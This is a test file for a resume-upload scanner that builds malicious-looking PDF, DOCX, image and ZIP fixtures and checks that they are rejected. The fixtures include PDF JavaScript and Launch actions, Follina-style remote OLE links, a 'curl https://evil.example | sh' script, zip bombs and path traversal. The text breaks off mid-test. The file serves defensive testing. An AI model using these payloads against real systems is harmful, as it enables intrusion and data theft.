import { Readable } from 'node:stream';
import { deflateSync } from 'node:zlib';
import { Document, ExternalHyperlink, Packer, Paragraph, TextRun } from 'docx';
import { PDFDocument, PDFName, PDFString, StandardFonts } from 'pdf-lib';
import { describe, expect, it } from 'vitest';
import yazl from 'yazl';
import {
  builtinChecksSummary,
  containsZip,
  DEFAULT_CATEGORY_CHECKS,
  inspectZip,
  isRemoteTarget,
  isUnsafeEntryName,
  readZipEntries,
  readZipEntry,
} from '../../src/scan/active-content/index.ts';
import { BuiltinScanner } from '../../src/scan/builtin.ts';

// ---------------------------------------------------------------- the corpus, generated here

const MIME = {
  pdf: 'application/pdf',
  docx: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
  txt: 'text/plain',
  csv: 'text/csv',
  png: 'image/png',
  jpeg: 'image/jpeg',
} as const;

const EICAR = 'X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*';

function zipOf(entries: Array<{ name: string; bytes: Buffer | string; compress?: boolean }>): Promise<Buffer> {
  const zip = new yazl.ZipFile();
  for (const entry of entries) zip.addBuffer(Buffer.from(entry.bytes), entry.name, { compress: entry.compress ?? true });
  zip.end();
  return collect(zip.outputStream);
}

async function collect(stream: NodeJS.ReadableStream): Promise<Buffer> {
  const chunks: Buffer[] = [];
  for await (const chunk of stream) chunks.push(Buffer.from(chunk as Buffer));
  return Buffer.concat(chunks);
}

/** Replaces a same-length byte string everywhere (local header and central directory): how names yazl refuses get in. */
function patch(bytes: Buffer, from: string, to: string): Buffer {
  expect(to.length).toBe(from.length);
  const out = Buffer.from(bytes);
  for (let at = out.indexOf(from, 0, 'latin1'); at !== -1; at = out.indexOf(from, at + 1, 'latin1')) out.write(to, at, 'latin1');
  return out;
}

/** Sets the general-purpose "encrypted" bit (0x1) on every local and central header. */
function markEncrypted(zip: Buffer): Buffer {
  const out = Buffer.from(zip);
  for (const [signature, flagOffset] of [
    ['PK\x03\x04', 6],
    ['PK\x01\x02', 8],
  ] as const) {
    for (let at = out.indexOf(signature, 0, 'latin1'); at !== -1; at = out.indexOf(signature, at + 1, 'latin1')) {
      out.writeUInt16LE(out.readUInt16LE(at + flagOffset) | 0x1, at + flagOffset);
    }
  }
  return out;
}

/** A 42.zip-style bomb: one entry of `megabytes` MB of zeros, deflated to about a thousandth of that. */
function zeroBomb(megabytes: number, alongside: Part[] = []): Promise<Buffer> {
  const zip = new yazl.ZipFile();
  for (const entry of alongside) zip.addBuffer(Buffer.from(entry.bytes), entry.name);
  const size = megabytes * 1024 * 1024;
  const block = Buffer.alloc(1024 * 1024);
  zip.addReadStream(
    Readable.from(
      (function* () {
        for (let i = 0; i < megabytes; i += 1) yield block;
      })(),
    ),
    'zeros.bin',
    { size, compress: true },
  );
  zip.end();
  return collect(zip.outputStream);
}

const RELS_NS = 'http://schemas.openxmlformats.org/package/2006/relationships';
const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const rels = (body: string) => `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="${RELS_NS}">${body}</Relationships>`;
const contentTypes = (extra = '', main = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml') =>
  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="png" ContentType="image/png"/><Override PartName="/word/document.xml" ContentType="${main}"/>${extra}</Types>`;
const documentXml = (text: string) =>
  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>${text}</w:t></w:r></w:p></w:body></w:document>`;

type Part = { name: string; bytes: Buffer | string };

/** A DOCX shaped like Word's own output: docProps, customXml, settings with Word's usual local Normal.dotm template, a hyperlink, a chart workbook. */
async function wordDocx(
  options: { settingsRels?: string; documentRels?: string; extra?: Part[]; contentTypesExtra?: string; main?: string } = {},
): Promise<Buffer> {
  const chartWorkbook = await zipOf([
    { name: '[Content_Types].xml', bytes: '<Types/>' },
    { name: 'xl/workbook.xml', bytes: '<workbook/>' },
  ]);
  return zipOf([
    { name: '[Content_Types].xml', bytes: contentTypes(options.contentTypesExtra, options.main) },
    {
      name: '_rels/.rels',
      bytes: rels(
        `<Relationship Id="rId3" Type="${REL}/extended-properties" Target="docProps/app.xml"/><Relationship Id="rId1" Type="${REL}/officeDocument" Target="word/document.xml"/>`,
      ),
    },
    {
      name: 'docProps/app.xml',
      bytes: '<Properties><Template>Normal.dotm</Template><Application>Microsoft Office Word</Application><AppVersion>16.0000</AppVersion></Properties>',
    },
    { name: 'docProps/core.xml', bytes: '<cp:coreProperties xmlns:cp="x"><dc:creator xmlns:dc="y">Ada</dc:creator></cp:coreProperties>' },
    { name: 'customXml/item1.xml', bytes: '<b:Sources xmlns:b="http://schemas.openxmlformats.org/officeDocument/2006/bibliography"/>' },
    { name: 'customXml/itemProps1.xml', bytes: '<ds:datastoreItem xmlns:ds="x"/>' },
    { name: 'customXml/_rels/item1.xml.rels', bytes: rels(`<Relationship Id="rId1" Type="${REL}/customXmlProps" Target="itemProps1.xml"/>`) },
    { name: 'word/document.xml', bytes: documentXml('Ada Lovelace — Analytical engines') },
    { name: 'word/settings.xml', bytes: '<w:settings xmlns:w="x"><w:attachedTemplate r:id="rId1" xmlns:r="y"/></w:settings>' },
    { name: 'word/styles.xml', bytes: '<w:styles xmlns:w="x"/>' },
    { name: 'word/theme/theme1.xml', bytes: '<a:theme xmlns:a="x"/>' },
    { name: 'word/fontTable.xml', bytes: '<w:fonts xmlns:w="x"/>' },
    { name: 'word/webSettings.xml', bytes: '<w:webSettings xmlns:w="x"/>' },
    { name: 'word/media/image1.png', bytes: PNG_1X1 },
    { name: 'word/charts/chart1.xml', bytes: '<c:chartSpace xmlns:c="x"/>' },
    {
      name: 'word/charts/_rels/chart1.xml.rels',
      bytes: rels(`<Relationship Id="rId1" Type="${REL}/package" Target="../embeddings/Microsoft_Excel_Worksheet.xlsx"/>`),
    },
    { name: 'word/embeddings/Microsoft_Excel_Worksheet.xlsx', bytes: chartWorkbook },
    {
      name: 'word/_rels/document.xml.rels',
      bytes: rels(
        options.documentRels ??
          `<Relationship Id="rId8" Type="${REL}/hyperlink" Target="https://www.linkedin.com/in/ada?x=1&amp;y=2" TargetMode="External"/><Relationship Id="rId9" Type="${REL}/hyperlink" Target="mailto:ada@example.test" TargetMode="External"/><Relationship Id="rId5" Type="${REL}/image" Target="media/image1.png"/>`,
      ),
    },
    {
      name: 'word/_rels/settings.xml.rels',
      bytes: rels(
        options.settingsRels ??
          `<Relationship Id="rId1" Type="${REL}/attachedTemplate" Target="file:///C:\\Users\\ada\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm" TargetMode="External"/>`,
      ),
    },
    ...(options.extra ?? []),
  ]);
}

/** A DOCX shaped like LibreOffice's export. */
function libreOfficeDocx(): Promise<Buffer> {
  return zipOf([
    { name: '_rels/.rels', bytes: rels(`<Relationship Id="rId1" Type="${REL}/officeDocument" Target="word/document.xml"/>`) },
    {
      name: 'docProps/app.xml',
      bytes:
        '<Properties><Template></Template><Application>LibreOffice/7.5.9.2$Linux_X86_64 LibreOffice_project/cdeefe45c17511d326101eed8008ac4092f278a9</Application></Properties>',
    },
    {
      name: 'word/_rels/document.xml.rels',
      bytes: rels(
        `<Relationship Id="rId1" Type="${REL}/styles" Target="styles.xml"/><Relationship Id="rId2" Type="${REL}/hyperlink" Target="https://github.com/ada" TargetMode="External"/>`,
      ),
    },
    { name: 'word/document.xml', bytes: documentXml('Ada Lovelace') },
    { name: 'word/styles.xml', bytes: '<w:styles xmlns:w="x"/>' },
    { name: 'word/fontTable.xml', bytes: '<w:fonts xmlns:w="x"/>' },
    { name: 'word/settings.xml', bytes: '<w:settings xmlns:w="x"><w:zoom w:percent="100"/></w:settings>' },
    { name: '[Content_Types].xml', bytes: contentTypes() },
  ]);
}

/** A DOCX shaped like a Google Docs download. */
function googleDocsDocx(): Promise<Buffer> {
  return zipOf([
    { name: 'word/numbering.xml', bytes: '<w:numbering xmlns:w="x"/>' },
    { name: 'word/settings.xml', bytes: '<w:settings xmlns:w="x"/>' },
    { name: 'word/fontTable.xml', bytes: '<w:fonts xmlns:w="x"/>' },
    { name: 'word/styles.xml', bytes: '<w:styles xmlns:w="x"/>' },
    { name: 'word/document.xml', bytes: documentXml('Ada Lovelace') },
    {
      name: 'word/_rels/document.xml.rels',
      bytes: rels(
        `<Relationship Id="rId7" Type="${REL}/hyperlink" Target="https://docs.google.com/document/d/abc" TargetMode="External"/><Relationship Id="rId3" Type="${REL}/fontTable" Target="fontTable.xml"/>`,
      ),
    },
    { name: '_rels/.rels', bytes: rels(`<Relationship Id="rId1" Type="${REL}/officeDocument" Target="word/document.xml"/>`) },
    { name: '[Content_Types].xml', bytes: contentTypes() },
  ]);
}

/** A DOCX from the `docx` package, with a hyperlink. */
function docxPackageDocx(): Promise<Buffer> {
  const document = new Document({
    creator: 'Ada',
    sections: [
      {
        children: [
          new Paragraph({ children: [new TextRun('Ada Lovelace'), new TextRun({ text: ' — Node.js/JavaScript engineer', bold: true })] }),
          new Paragraph({ children: [new ExternalHyperlink({ link: 'https://ada.example.test', children: [new TextRun('ada.example.test')] })] }),
        ],
      },
    ],
  });
  return Packer.toBuffer(document);
}

/** A hand-written PDF whose objects are given as bodies (object 1 is the catalog, 2 the pages, 3 the page); xref offsets are right. */
function rawPdf(options: { catalogExtra?: string; objects?: string[]; trailerExtra?: string; pageExtra?: string; eof?: boolean } = {}): Buffer {
  const bodies = [
    `<< /Type /Catalog /Pages 2 0 R ${options.catalogExtra ?? ''} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] ${options.pageExtra ?? ''} >>`,
    ...(options.objects ?? []),
  ];
  let text = '%PDF-1.7\n%\xe2\xe3\xcf\xd3\n';
  const offsets: number[] = [];
  bodies.forEach((body, index) => {
    offsets.push(text.length);
    text += `${index + 1} 0 obj\n${body}\nendobj\n`;
  });
  const xref = text.length;
  text += `xref\n0 ${bodies.length + 1}\n0000000000 65535 f \n${offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('')}`;
  text += `trailer\n<< /Size ${bodies.length + 1} /Root 1 0 R ${options.trailerExtra ?? ''} >>\nstartxref\n${xref}\n${options.eof === false ? '' : '%%EOF\n'}`;
  return Buffer.from(text, 'latin1');
}

/** A stream object body. */
const streamObject = (dict: string, data: Buffer | string) => {
  const bytes = Buffer.from(data);
  return `<< ${dict} /Length ${bytes.length} >>\nstream\n${bytes.toString('latin1')}\nendstream`;
};

/** An object stream (`/Type /ObjStm`) holding the given objects, Flate-compressed. */
function objectStream(objects: Array<[number, string]>, filter = '/FlateDecode', encode: (data: Buffer) => Buffer = (data) => deflateSync(data)): string {
  let header = '';
  let body = '';
  for (const [number, object] of objects) {
    header += `${number} ${body.length} `;
    body += `${object}\n`;
  }
  const data = encode(Buffer.from(header + body, 'latin1'));
  return streamObject(`/Type /ObjStm /N ${objects.length} /First ${header.length} /Filter ${filter}`, data);
}

/** A clean PDF from pdf-lib (object streams, compressed), dressed as a given producer. */
async function libPdf(options: { producer?: string; title?: string; link?: string; openToPage?: boolean; structure?: boolean } = {}): Promise<Uint8Array> {
  const pdf = await PDFDocument.create();
  const page = pdf.addPage([595, 842]);
  const font = await pdf.embedFont(StandardFonts.Helvetica);
  ['Ada Lovelace', 'Skills: Node.js/JavaScript, TypeScript', 'Launch of the analytical engine, 1842'].forEach((line, index) =>
    page.drawText(line, { x: 50, y: 780 - index * 18, size: 12, font }),
  );
  if (options.producer) pdf.setProducer(options.producer);
  if (options.title) pdf.setTitle(options.title);
  const context = pdf.context;
  if (options.link) {
    const annotation = context.register(
      context.obj({
        Type: 'Annot',
        Subtype: 'Link',
        Rect: [50, 700, 300, 720],
        Border: [0, 0, 0],
        A: { Type: 'Action', S: 'URI', URI: PDFString.of(options.link) },
      }),
    );
    page.node.set(PDFName.of('Annots'), context.obj([annotation]));
  }
  if (options.openToPage) pdf.catalog.set(PDFName.of('OpenAction'), context.obj([page.ref, 'XYZ', null, null, 0]));
  if (options.structure) {
    pdf.catalog.set(PDFName.of('MarkInfo'), context.obj({ Marked: true }));
    pdf.catalog.set(PDFName.of('Lang'), PDFString.of('en-GB'));
    const element = context.register(context.obj({ Type: 'StructElem', S: 'Link', P: null }));
    pdf.catalog.set(PDFName.of('StructTreeRoot'), context.register(context.obj({ Type: 'StructTreeRoot', K: [element] })));
  }
  return pdf.save({ useObjectStreams: true });
}

const PNG_1X1 = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', 'base64');

function pngDeclaring(width: number, height: number): Buffer {
  const png = Buffer.from(PNG_1X1);
  png.writeUInt32BE(width, 16);
  png.writeUInt32BE(height, 20);
  return png;
}

/** A JPEG header: SOI, APP0 (JFIF), SOF0 with the given size, EOI. */
function jpegDeclaring(width: number, height: number): Buffer {
  const app0 = Buffer.from([0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46, 0x00, 0x01, 0x01, 0x00, 0x00, 0x01, 0x00, 0x01, 0x00, 0x00]);
  const sof = Buffer.from([0xff, 0xc0, 0x00, 0x0b, 0x08, 0, 0, 0, 0, 0x01, 0x01, 0x11, 0x00]);
  sof.writeUInt16BE(height, 5);
  sof.writeUInt16BE(width, 7);
  return Buffer.concat([Buffer.from([0xff, 0xd8]), app0, sof, Buffer.from([0xff, 0xd9])]);
}

function executable(kind: 'mz' | 'elf' | 'macho' | 'fat'): Buffer {
  const bytes = Buffer.alloc(512);
  if (kind === 'mz') {
    bytes.write('MZ', 0, 'latin1');
    bytes.writeUInt32LE(0x80, 0x3c);
    bytes.write('PE\0\0', 0x80, 'latin1');
  } else if (kind === 'elf') bytes.write('\x7fELF\x02\x01\x01', 0, 'latin1');
  else if (kind === 'macho') bytes.writeUInt32LE(0xfeedfacf, 0);
  else bytes.writeUInt32BE(0xcafebabe, 0);
  return bytes;
}

// ---------------------------------------------------------------- scanning

const scanner = new BuiltinScanner();

async function scan(bytes: Buffer | Uint8Array, contentType: string, category = 'resume', using = scanner) {
  const buffer = Buffer.from(bytes);
  return using.scan({ open: async () => Readable.from([buffer]), size: buffer.length, contentType, category });
}

async function reasonOf(bytes: Buffer | Uint8Array, contentType: string, category = 'resume'): Promise<string> {
  const verdict = await scan(bytes, contentType, category);
  expect(verdict.engine).toBe('vitae-builtin');
  if (verdict.result === 'clean') return 'clean';
  if (verdict.result === 'rejected') return verdict.reason;
  return `infected:${verdict.signature}`;
}

describe('the built-in scanner: files that must be refused', () => {
  it.each<[string, () => Buffer | Uint8Array | Promise<Buffer | Uint8Array>, string, string, string?]>([
    // PDF
    [
      'a PDF with /JavaScript in an OpenAction (hand-written)',
      () => rawPdf({ catalogExtra: '/OpenAction 4 0 R', objects: ['<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>'] }),
      MIME.pdf,
      'pdf_javascript',
    ],
    [
      'a PDF hiding /JavaScript and /JS behind #xx escapes',
      () => rawPdf({ catalogExtra: '/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>' }),
      MIME.pdf,
      'pdf_javascript',
    ],
    [
      'a PDF with JavaScript inside a compressed object stream',
      () => rawPdf({ catalogExtra: '/OpenAction 5 0 R', objects: [objectStream([[5, '<< /S /JavaScript /JS (app.alert(1)) >>']])] }),
      MIME.pdf,
      'pdf_javascript',
    ],
    [
      'a PDF with JavaScript in an ASCII85+Flate object stream',
      () =>
        rawPdf({
          objects: [
            objectStream([[5, '<< /S /JavaScript /JS 6 0 R >>']], '[/ASCII85Decode /FlateDecode]', (data) => Buffer.from(`${ascii85(deflateSync(data))}~>`)),
          ],
        }),
      MIME.pdf,
      'pdf_javascript',
    ],
    [
      'a PDF whose /JS follows a comment that opens a parenthesis',
      () => rawPdf({ catalogExtra: '% note (\n/Names << /JavaScript 4 0 R >>\n% )', objects: ['<< /Names [] >>'] }),
      MIME.pdf,
      'pdf_javascript',
    ],
    [
      'a PDF with JavaScript in a page additional action (pdf-lib, object streams)',
      async () => {
        const pdf = await PDFDocument.create();
        const page = pdf.addPage();
        page.node.set(PDFName.of('AA'), pdf.context.obj({ O: { S: 'JavaScript', JS: PDFString.of('app.alert(1)') } }));
        return pdf.save({ useObjectStreams: true });
      },
      MIME.pdf,
      'pdf_javascript',
    ],
    ['a PDF with a Launch action', () => rawPdf({ catalogExtra: '/OpenAction << /S /Launch /F (cmd.exe) >>' }), MIME.pdf, 'pdf_launch_action'],
    [
      'a PDF that opens a URL on its own (OpenAction URI, by reference)',
      () => rawPdf({ catalogExtra: '/OpenAction 4 0 R', objects: ['<< /S /URI /URI (https://evil.example/track) >>'] }),
      MIME.pdf,
      'pdf_external_action',
    ],
    [
      'a PDF whose page-open action chains to a remote GoToR',
      () =>
        rawPdf({
          pageExtra: '/AA << /O 4 0 R >>',
          objects: ['<< /S /GoTo /D [3 0 R /Fit] /Next 5 0 R >>', '<< /S /GoToR /F (\\\\\\\\evil\\\\share\\\\x.pdf) /D [0 /Fit] >>'],
        }),
      MIME.pdf,
      'pdf_external_action',
    ],
    [
      'a PDF form that submits data',
      () => rawPdf({ objects: ['<< /Type /Annot /Subtype /Widget /A << /S /SubmitForm /F (https://evil.example) >> >>'] }),
      MIME.pdf,
      'pdf_external_action',
    ],
    [
      'a PDF with an embedded file (pdf-lib attach)',
      async () => {
        const pdf = await PDFDocument.create();
        pdf.addPage();
        await pdf.attach(Buffer.from('MZ payload'), 'invoice.exe', { mimeType: 'application/octet-stream' });
        return pdf.save();
      },
      MIME.pdf,
      'pdf_embedded_file',
    ],
    [
      'a PDF with an XFA form',
      () => rawPdf({ catalogExtra: '/AcroForm << /Fields [] /XFA 4 0 R >>', objects: [streamObject('', '<xdp:xdp/>')] }),
      MIME.pdf,
      'pdf_xfa',
    ],
    [
      'an encrypted PDF',
      () => rawPdf({ trailerExtra: '/Encrypt 4 0 R /ID [<00> <00>]', objects: ['<< /Filter /Standard /V 2 /R 3 /O <00> /U <00> /P -4 >>'] }),
      MIME.pdf,
      'pdf_encrypted',
    ],
    [
      'a PDF whose object stream uses a filter that is not inspected',
      () => rawPdf({ objects: [objectStream([[5, '<< >>']], '/LZWDecode', (data) => data)] }),
      MIME.pdf,
      'pdf_uninspectable',
    ],
    ['a PDF without %%EOF', () => rawPdf({ eof: false }), MIME.pdf, 'malformed_pdf'],
    ['a "PDF" without a header', () => Buffer.from('hello\n%%EOF\n'), MIME.pdf, 'malformed_pdf'],
    [
      'a file that is both a PDF and a ZIP (ZIP appended)',
      async () => Buffer.concat([rawPdf(), await zipOf([{ name: 'a.txt', bytes: 'x' }])]),
      MIME.pdf,
      'polyglot',
    ],
    [
      'a file that is both a PDF and a ZIP (%%EOF kept last)',
      async () => Buffer.concat([rawPdf({ eof: false }), await zipOf([{ name: 'a.txt', bytes: 'x' }]), Buffer.from('\n%%EOF\n')]),
      MIME.pdf,
      'polyglot',
    ],
    // DOCX
    ['a DOCX with vbaProject.bin', () => wordDocx({ extra: [{ name: 'word/vbaProject.bin', bytes: 'VBA project' }] }), MIME.docx, 'ooxml_macros'],
    ['a DOCX with vbaData.xml', () => wordDocx({ extra: [{ name: 'word/vbaData.xml', bytes: '<wne:vbaSuppData/>' }] }), MIME.docx, 'ooxml_macros'],
    [
      'a DOCX with a macro-enabled main content type',
      () => wordDocx({ main: 'application/vnd.ms-word.document.macroEnabled.main+xml' }),
      MIME.docx,
      'ooxml_macros',
    ],
    [
      'a DOCX with a remote template (http)',
      () => wordDocx({ settingsRels: `<Relationship Id="rId1" Type="${REL}/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>` }),
      MIME.docx,
      'ooxml_external_template',
    ],
    [
      'a DOCX with a remote template (UNC path)',
      () =>
        wordDocx({ settingsRels: `<Relationship Id="rId1" Type="${REL}/attachedTemplate" Target="\\\\evil.example\\share\\t.dotm" TargetMode="External"/>` }),
      MIME.docx,
      'ooxml_external_template',
    ],
    [
      'a DOCX with a remote template (file://host)',
      () =>
        wordDocx({ settingsRels: `<Relationship Id="rId1" Type="${REL}/attachedTemplate" Target="file://evil.example/share/t.dotm" TargetMode="External"/>` }),
      MIME.docx,
      'ooxml_external_template',
    ],
    [
      'a DOCX with a remote frame (entity-escaped target)',
      () => wordDocx({ documentRels: `<Relationship Id="rId1" Type="${REL}/frame" Target="&#104;ttps://evil.example/f" TargetMode="External"/>` }),
      MIME.docx,
      'ooxml_external_template',
    ],
    [
      'a DOCX with a remote OLE object (Follina)',
      () =>
        wordDocx({
          documentRels: `<Relationship Id="rId996" Type="${REL}/oleObject" Target="mhtml:https://evil.example/x.html!x-usc:https://evil.example/x.html" TargetMode="External"/>`,
        }),
      MIME.docx,
      'ooxml_ole_object',
    ],
    [
      'a DOCX with an embedded OLE object',
      () => wordDocx({ extra: [{ name: 'word/embeddings/oleObject1.bin', bytes: '\xd0\xcf\x11\xe0' }] }),
      MIME.docx,
      'ooxml_ole_object',
    ],
    ['a DOCX with an ActiveX control', () => wordDocx({ extra: [{ name: 'word/activeX/activeX1.xml', bytes: '<ax:ocx/>' }] }), MIME.docx, 'ooxml_ole_object'],
    ['a DOCX without word/document.xml', () => zipOf([{ name: '[Content_Types].xml', bytes: contentTypes() }]), MIME.docx, 'malformed_docx'],
    ['a "DOCX" that is no ZIP', () => Buffer.from('PK\x03\x04 but nothing else'), MIME.docx, 'malformed_docx'],
    [
      'a DOCX with an entry climbing out (../)',
      async () => patch(await wordDocx({ extra: [{ name: 'aa/evil.txt', bytes: 'x' }] }), 'aa/evil.txt', '../evil.txt'),
      MIME.docx,
      'zip_path_traversal',
    ],
    ['a DOCX with an encrypted entry', async () => markEncrypted(await wordDocx()), MIME.docx, 'zip_encrypted'],
    [
      'a DOCX carrying a zip bomb (150 MB of zeros in one part)',
      () =>
        zeroBomb(150, [
          { name: '[Content_Types].xml', bytes: contentTypes() },
          { name: 'word/document.xml', bytes: documentXml('x') },
        ]),
      MIME.docx,
      'zip_bomb',
    ],
    [
      'a DOCX whose embedded workbook embeds another archive (nested twice)',
      async () => {
        const inner = await zipOf([{ name: 'x.txt', bytes: 'x' }]);
        const workbook = await zipOf([
          { name: 'xl/workbook.xml', bytes: '<workbook/>' },
          { name: 'xl/embeddings/inner.zip', bytes: inner },
        ]);
        return wordDocx({ extra: [{ name: 'word/embeddings/Other.xlsx', bytes: workbook }] });
      },
      MIME.docx,
      'zip_nested',
    ],
    // executables
    ['a Windows executable sent as a PDF', () => executable('mz'), MIME.pdf, 'executable'],
    ['an ELF binary sent as text', () => executable('elf'), MIME.txt, 'executable'],
    ['a Mach-O binary sent as text', () => executable('macho'), MIME.txt, 'executable'],
    ['a Mach-O universal binary sent as a CSV', () => executable('fat'), MIME.csv, 'executable', 'csv_import'],
    ['a shell script named resume.txt', () => Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n'), MIME.txt, 'executable'],
    ['a shell script after a byte-order mark', () => Buffer.from('\ufeff#!/usr/bin/env python3\nimport os\n'), MIME.txt, 'executable'],
    // images
    ['a PNG declaring 100000×100000 pixels', () => pngDeclaring(100_000, 100_000), MIME.png, 'image_too_large', 'logo'],
    ['a PNG declaring 8000×8000 pixels (64 megapixels)', () => pngDeclaring(8000, 8000), MIME.png, 'image_too_large', 'logo'],
    ['a JPEG declaring 30000×10 pixels', () => jpegDeclaring(30_000, 10), MIME.jpeg, 'image_too_large', 'logo'],
    ['a PNG that is also a ZIP', async () => Buffer.concat([PNG_1X1, await zipOf([{ name: 'payload.js', bytes: 'alert(1)' }])]), MIME.png, 'polyglot', 'logo'],
    ['a PNG that is also a PDF', () => Buffer.concat([PNG_1X1, rawPdf()]), MIME.png, 'polyglot', 'logo'],
    ['a truncated PNG', () => PNG_1X1.subarray(0, 20), MIME.png, 'malformed_image', 'logo'],
    ['a JPEG without a frame header', () => Buffer.from([0xff, 0xd8, 0xff, 0xd9]), MIME.jpeg, 'malformed_image', 'logo'],
  ])('%s', async (_name, make, contentType, reason, category) => {
    expect(await reasonOf(await make(), contentType, category)).toBe(reason);
  });
});

describe('the built-in scanner: ordinary files stay clean', () => {
  it.each<[string, () => Buffer | Uint8Array | Promise<Buffer | Uint8Array>, string, string?]>([
    ["EICAR as a TXT resume (a signature engine's job, not the built-in checks')", () => Buffer.from(`Ada Lovelace\n${EICAR}\n`), MIME.txt],
    ['a text resume that mentions #! later', () => Buffer.from('Ada Lovelace\nLikes #!/bin/sh one-liners\n'), MIME.txt],
    ['a CSV import', () => Buffer.from('name,email\nAda,ada@example.test\n'), MIME.csv, 'csv_import'],
    ['a PDF from pdf-lib (object streams)', () => libPdf(), MIME.pdf],
    [
      "a PDF shaped like LibreOffice's export (producer, OpenAction to a page, a link)",
      () => libPdf({ producer: 'LibreOffice 7.5', openToPage: true, link: 'https://github.com/ada' }),
      MIME.pdf,
    ],
    [
      'a PDF shaped like a Google Docs download (Skia/PDF, a title naming JavaScript, links)',
      () =>
        libPdf({
          producer: 'Skia/PDF m120 Google Docs Renderer',
          title: 'Frontend/JavaScript Developer — Launch/EmbeddedFile (resume)',
          link: 'https://www.linkedin.com/in/ada',
        }),
      MIME.pdf,
    ],
    [
      "a PDF shaped like Word's export (tagged, structure tree with Link elements)",
      () => libPdf({ producer: 'Microsoft® Word for Microsoft 365', structure: true, link: 'mailto:ada@example.test' }),
      MIME.pdf,
    ],
    [
      'a hand-written PDF whose uncompressed page content says /JavaScript',
      () => rawPdf({ pageExtra: '/Contents 4 0 R', objects: [streamObject('', 'BT /F1 12 Tf 50 780 Td (Skills: Node.js/JavaScript /JS /Launch) Tj ET')] }),
      MIME.pdf,
    ],
    [
      'a hand-written PDF whose link opens only when clicked',
      () =>
        rawPdf({ pageExtra: '/Annots [4 0 R]', objects: ['<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (https://example.test) >> >>'] }),
      MIME.pdf,
    ],
    ["a DOCX shaped like Word's (local Normal.dotm template, hyperlinks, an embedded chart workbook)", () => wordDocx(), MIME.docx],
    [
      'a DOCX with a template on a file:///Users path (Word for Mac)',
      () =>
        wordDocx({
          settingsRels: `<Relationship Id="rId1" Type="${REL}/attachedTemplate" Target="file:///Users/ada/Library/Group%20Containers/UBF8T346G9.Office/User%20Content.localized/Templates.localized/Normal.dotm" TargetMode="External"/>`,
        }),
      MIME.docx,
    ],
    ["a DOCX shaped like LibreOffice's", () => libreOfficeDocx(), MIME.docx],
    ["a DOCX shaped like Google Docs'", () => googleDocsDocx(), MIME.docx],
    ['a DOCX from the docx package, with an external hyperlink', () => docxPackageDocx(), MIME.docx],
    ['a 1×1 PNG logo', () => PNG_1X1, MIME.png, 'logo'],
    ['a 4000×3000 JPEG logo header', () => jpegDeclaring(4000, 3000), MIME.jpeg, 'logo'],
  ])('%s', async (_name, make, contentType, category) => {
    expect(await reasonOf(await make(), contentType, category)).toBe('clean');
  });
});

describe('crafted PDFs cost linear time', () => {
  it.each([
    ['object headers without endobj', '1 0 obj '.repeat(500_000), 'clean'],
    ['unbalanced additional actions', '/AA << '.repeat(500_000), 'pdf_external_action'],
    ['unclosed strings', '('.repeat(2_000_000), 'clean'],
    ['empty object streams by the thousand', '1 0 obj << /Type /ObjStm /Filter /FlateDecode >> stream\nendstream endobj\n'.repeat(20_000), 'pdf_uninspectable'],
  ])(
    '%s',
    async (_name, body, reason) => {
      expect(await reasonOf(Buffer.from(`%PDF-1.7\n${body}\n%%EOF\n`, 'latin1'), MIME.pdf)).toBe(reason);
    },
    20_000,
  );
});

describe('ZIP inspection (shared with the bulk intake)', () => {
  it('finds a 42.zip-style bomb from its declared sizes: 200 MB of zeros in a ~200 KB archive', async () => {
    const bomb = await zeroBomb(200);
    expect(bomb.length).toBeLessThan(400 * 1024);
    const verdict = await inspectZip(bomb);
    expect(verdict.problem).toBe('zip_bomb');
    expect(verdict.detail).toMatch(/expands \d+:1/);
  });

  it('refuses more uncompressed bytes than the cap even at a modest ratio', async () => {
    const verdict = await inspectZip(await zeroBomb(20), { maxEntries: 10, maxTotalUncompressed: 10 * 1024 * 1024, maxRatio: 10_000 });
    expect(verdict.problem).toBe('zip_bomb');
  });

  it('refuses nesting beyond one level: zip in zip in zip (42.zip shape)', async () => {
    const level2 = await zipOf([{ name: 'x.txt', bytes: 'x' }]);
    const level1 = await zipOf([{ name: 'inner.zip', bytes: level2 }]);
    const outer = await zipOf([{ name: 'middle.zip', bytes: level1 }]);
    expect((await inspectZip(level1)).problem).toBeNull();
    expect((await inspectZip(outer)).problem).toBe('zip_nested');
    // a nested ZIP under an innocent name is found by its magic bytes
    const disguised = await zipOf([{ name: 'notes.txt', bytes: level1 }]);
    expect((await inspectZip(disguised)).problem).toBe('zip_nested');
    expect((await inspectZip(outer, undefined, { perEntry: true })).problem).toBeNull();
  });

  it('refuses too many entries', async () => {
    const many = await zipOf(Array.from({ length: 1001 }, (_, i) => ({ name: `f${i}.txt`, bytes: 'x' })));
    expect((await inspectZip(many)).problem).toBe('zip_too_many_entries');
  });

  it('refuses entry names that climb out: ../, absolute, backslashes, drive letters', async () => {
    for (const [safe, unsafe] of [
      ['aa/evil', '../evil'],
      ['aevil.txt', '/evil.txt'],
      ['aa_evil', '..\\evil'],
      ['ab/win.ini', 'C:/win.ini'],
